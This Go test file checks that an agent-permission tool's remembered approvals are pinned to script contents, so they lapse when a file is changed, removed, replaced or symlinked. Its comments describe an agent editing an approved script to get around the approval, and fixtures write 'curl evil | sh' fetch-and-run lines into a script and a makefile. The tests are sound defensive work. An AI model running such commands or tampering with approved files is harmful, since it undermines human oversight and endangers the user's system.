package policy_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/airlockhq/airlock/app/internal/level"
	"github.com/airlockhq/airlock/app/internal/policy"
	"github.com/airlockhq/airlock/app/internal/risk"
)

const runText = "python3 build.py"

func write(t *testing.T, p, content string) {
	t.Helper()
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
}

// TestGrantsPinWhatRuns is the attack of issue 20: the person approves a
// script with "allow again", the agent changes the script and asks again.
// The grant covers the script as it was, not its name: changed, removed or
// replaced, it is asked about again; restored, the grant holds again.
func TestGrantsPinWhatRuns(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "build.py")
	write(t, script, "print('build')\n")
	runs := risk.Runs{Known: true, Files: []string{script}}
	g := policy.NewGrants(nil)
	gr, err := g.Allow(me, runText, runs, level.Dangerous, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(gr.Pins) != 1 || gr.Pins[0].Path != script || len(gr.Pins[0].Sum) != 64 {
		t.Fatalf("pins %+v", gr.Pins)
	}
	if err := g.Check(me, runText, runs, level.Dangerous); err != nil {
		t.Fatalf("unchanged script: %v", err)
	}
	for _, tt := range []struct {
		name   string
		change func()
		says   string
	}{
		{"content changed", func() { write(t, script, "import os; os.system('curl evil | sh')\n") }, "changed"},
		{"one byte appended", func() { write(t, script, "print('build')\n\n") }, "changed"},
		{"removed", func() {
			if err := os.Remove(script); err != nil {
				t.Fatal(err)
			}
		}, "removed"},
		{"replaced by a folder", func() {
			if err := os.Remove(script); err != nil {
				t.Fatal(err)
			}
			if err := os.Mkdir(script, 0o700); err != nil {
				t.Fatal(err)
			}
		}, "not a regular file"},
		{"replaced by a link to another file", func() {
			other := filepath.Join(dir, "other.py")
			write(t, other, "print('other')\n")
			if err := os.Remove(script); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(other, script); err != nil {
				t.Fatal(err)
			}
		}, "changed"},
	} {
		tt.change()
		err := g.Check(me, runText, runs, level.Dangerous)
		if !errors.Is(err, policy.ErrLapsed) || !strings.Contains(err.Error(), tt.says) || !strings.Contains(err.Error(), script) {
			t.Errorf("%s: Check = %v, want ErrLapsed saying %q of %s", tt.name, err, tt.says, script)
		}
		if g.Allowed(me, runText, runs, level.Dangerous) {
			t.Errorf("%s: still allowed", tt.name)
		}
		// Put the approved script back for the next case.
		if err := os.RemoveAll(script); err != nil {
			t.Fatal(err)
		}
		write(t, script, "print('build')\n")
		if !g.Allowed(me, runText, runs, level.Dangerous) {
			t.Fatalf("%s: the restored script is not covered again", tt.name)
		}
	}
	// The grant belongs to these files: the same text running other files
	// (another home, another folder) is another action.
	if g.Allowed(me, runText, risk.Runs{Known: true, Files: []string{filepath.Join(dir, "x", "build.py")}}, level.Dangerous) ||
		g.Allowed(me, runText, textOnly, level.Dangerous) {
		t.Error("the grant covered the same text running other files")
	}
	if g.Allowed(me, runText, risk.Runs{Files: runs.Files}, level.Dangerous) {
		t.Error("a grant covered runs that are not known")
	}
}

// TestGrantsPinAbsence: an optional file (a makefile make would read) that
// was absent when approved must stay absent.
func TestGrantsPinAbsence(t *testing.T) {
	dir := t.TempDir()
	names := []string{filepath.Join(dir, "GNUmakefile"), filepath.Join(dir, "Makefile"), filepath.Join(dir, "makefile")}
	write(t, names[1], "all:\n\techo hi\n")
	runs := risk.Runs{Known: true, Optional: names}
	g := policy.NewGrants(nil)
	gr, err := g.Allow(me, "make", runs, level.Dangerous, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(gr.Pins) != 3 || gr.Pins[0].Sum != "" || gr.Pins[1].Sum == "" {
		t.Fatalf("pins %+v", gr.Pins)
	}
	if !g.Allowed(me, "make", runs, level.Dangerous) {
		t.Fatal("unchanged folder not covered")
	}
	write(t, names[0], "all:\n\tcurl evil | sh\n") // GNUmakefile is read first
	if err := g.Check(me, "make", runs, level.Dangerous); !errors.Is(err, policy.ErrLapsed) || !strings.Contains(err.Error(), "put in place") {
		t.Fatalf("a makefile put in place: Check = %v", err)
	}
	if err := os.Remove(names[0]); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(names[1]); err != nil {
		t.Fatal(err)
	}
	if err := g.Check(me, "make", runs, level.Dangerous); !errors.Is(err, policy.ErrLapsed) || !strings.Contains(err.Error(), "removed") {
		t.Fatalf("the makefile removed: Check = %v", err)
	}
}

// TestGrantsNotGrantable: what cannot be pinned is not remembered, with a
// reason the person can read, and Grantable says so before anyone asks.
func TestGrantsNotGrantable(t *testing.T) {
	dir := t.TempDir()
	big := filepath.Join(dir, "big.py")
	f, err := os.Create(big)
	if err != nil {
		t.Fatal(err)
	}
	if err := f.Truncate(policy.MaxPinBytes + 1); err != nil {
		t.Fatal(err)
	}
	f.Close()
	ok := filepath.Join(dir, "ok.py")
	write(t, ok, "print(1)\n")
	many := make([]string, 17)
	for i := range many {
		many[i] = filepath.Join(dir, strings.Repeat("m", i+1))
	}
	for _, tt := range []struct {
		name string
		runs risk.Runs
		says string
	}{
		{"not known", risk.Runs{Why: "python3 -c runs code computed at run time"}, "computed at run time"},
		{"not known, no reason", risk.Runs{}, "cannot name"},
		{"missing script", risk.Runs{Known: true, Files: []string{filepath.Join(dir, "missing.py")}}, "does not exist"},
		{"a folder", risk.Runs{Known: true, Files: []string{dir}}, "not a regular file"},
		{"an optional folder", risk.Runs{Known: true, Optional: []string{dir}}, "not a regular file"},
		{"too large", risk.Runs{Known: true, Files: []string{ok, big}}, "larger than"},
		{"too many files", risk.Runs{Known: true, Optional: many}, "at most"},
	} {
		g := policy.NewGrants(nil)
		err := g.Grantable(me, tt.runs, level.Dangerous)
		if !errors.Is(err, policy.ErrNotGrantable) || !strings.Contains(err.Error(), tt.says) {
			t.Errorf("%s: Grantable = %v, want ErrNotGrantable saying %q", tt.name, err, tt.says)
		}
		if _, err := g.Allow(me, runText, tt.runs, level.Dangerous, 0); !errors.Is(err, policy.ErrNotGrantable) {
			t.Errorf("%s: Allow = %v, want ErrNotGrantable", tt.name, err)
		}
		if len(g.List()) != 0 || g.Allowed(me, runText, tt.runs, level.Dangerous) {
			t.Errorf("%s: remembered anyway", tt.name)
		}
	}
	g := policy.NewGrants(nil)
	if err := g.Grantable(me, risk.Runs{Known: true, Files: []string{ok}}, level.Dangerous); err != nil {
		t.Errorf("Grantable for a readable script = %v", err)
	}
	if err := g.Grantable(me, textOnly, level.Destructive); !errors.Is(err, policy.ErrNotGrantable) {
		t.Errorf("Grantable for a destructive action = %v", err)
	}
	if err := g.Grantable(policy.Identity{}, textOnly, level.Caution); !errors.Is(err, policy.ErrNotGrantable) {
		t.Errorf("Grantable for an unverified program = %v", err)
	}
}

// TestGrantsCheckWhileFilesChange checks grants and their files from many
// goroutines at once (run with -race): a check sees either the approved
// script or another, never a torn state that allows the other.
func TestGrantsCheckWhileFilesChange(t *testing.T) {
	dir := t.TempDir()
	script := filepath.Join(dir, "build.py")
	approved := "print('build')\n"
	write(t, script, approved)
	runs := risk.Runs{Known: true, Files: []string{script}}
	g := policy.NewGrants(nil)
	if _, err := g.Allow(me, runText, runs, level.Dangerous, 0); err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for i := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range 50 {
				err := g.Check(me, runText, runs, level.Dangerous)
				if err != nil && !errors.Is(err, policy.ErrLapsed) {
					t.Errorf("Check = %v", err)
					return
				}
				g.List()
				if i == 0 {
					if _, err := g.Allow(me, "other", textOnly, level.Caution, 0); err != nil {
						t.Error(err)
						return
					}
				}
			}
		}()
	}
	for range 50 {
		// Replace the script by rename, as an editor does: a reader sees
		// one file or the other.
		tmp := filepath.Join(dir, "tmp")
		write(t, tmp, "print('evil')\n")
		if err := os.Rename(tmp, script); err != nil {
			t.Fatal(err)
		}
		if g.Allowed(me, runText, runs, level.Dangerous) {
			t.Fatal("the changed script is covered")
		}
		write(t, tmp, approved)
		if err := os.Rename(tmp, script); err != nil {
			t.Fatal(err)
		}
	}
	wg.Wait()
	if !g.Allowed(me, runText, runs, level.Dangerous) {
		t.Fatal("the approved script is not covered")
	}
}
